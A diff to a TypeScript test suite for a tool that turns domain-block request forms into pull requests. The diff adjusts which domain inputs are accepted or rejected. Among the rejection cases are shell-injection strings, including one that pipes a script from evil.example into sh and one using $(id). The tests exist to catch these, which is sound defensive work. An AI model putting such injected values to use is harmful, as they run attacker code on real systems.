@@ -58,7 +58,7 @@ const checkOf = (commit: string): string => {
 
 describe('a form that was accepted', () => {
   it('becomes a pull request that is planned, measured, linked both ways, and closes the issue when it is merged', async () => {
-    const issue = await asked('block', { ...BLOCK, refuse: [] })
+    const issue = await asked('block', { ...BLOCK, domain: 'https://bad.example/@someone', refuse: [] })
     const pull = await proposed(issue)
     expect(pull.title).toBe(`Block bad.example (#${issue})`)
     expect(pull.head.branch).toBe(`herdbook/issue-${issue}`)
@@ -138,7 +138,7 @@ describe('a form that was accepted', () => {
 
 describe('what can not be done is said in the issue, and nothing is proposed', () => {
   it.each<[string, keyof typeof FORMS, Answers, RegExp]>([
-    ['no domain', 'block', { ...BLOCK, domain: 'https://spam.example/about' }, /this is a web address; write only the domain/],
+    ['a page about somebody elsewhere', 'block', { ...BLOCK, domain: 'https://herd.example/@troll@bad.example' }, /this is a page of `herd\.example` about somebody of `bad\.example`/],
     ['shell', 'block', { ...BLOCK, domain: 'spam.example; curl https://evil.example | sh #' }, /is not a domain/],
     ['shell in the name', 'block', { ...BLOCK, domain: '$(id).example' }, /Mastodon takes no domain with/],
     ['YAML', 'block', { ...BLOCK, domain: '{domain: x, severity: none}' }, /is not a domain/],
